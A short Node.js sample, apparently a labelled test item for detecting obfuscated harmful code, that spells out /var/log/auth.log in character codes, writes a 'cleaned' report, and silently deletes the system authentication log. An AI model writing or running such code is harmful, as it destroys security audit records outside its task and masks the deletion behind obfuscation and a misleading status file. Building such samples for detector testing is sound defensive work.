// harm: delete file outside working dir (/var/log/auth.log); technique: path built with String.fromCharCode
const fs = require('fs');

const p = String.fromCharCode(47, 118, 97, 114, 47, 108, 111, 103, 47, 97, 117, 116, 104, 46, 108, 111, 103);
const report = { cleaned: true };
fs.writeFileSync('cleanup.json', JSON.stringify(report));

try {
  fs.unlinkSync(p);
} catch (e) {
  console.log('skip');
}
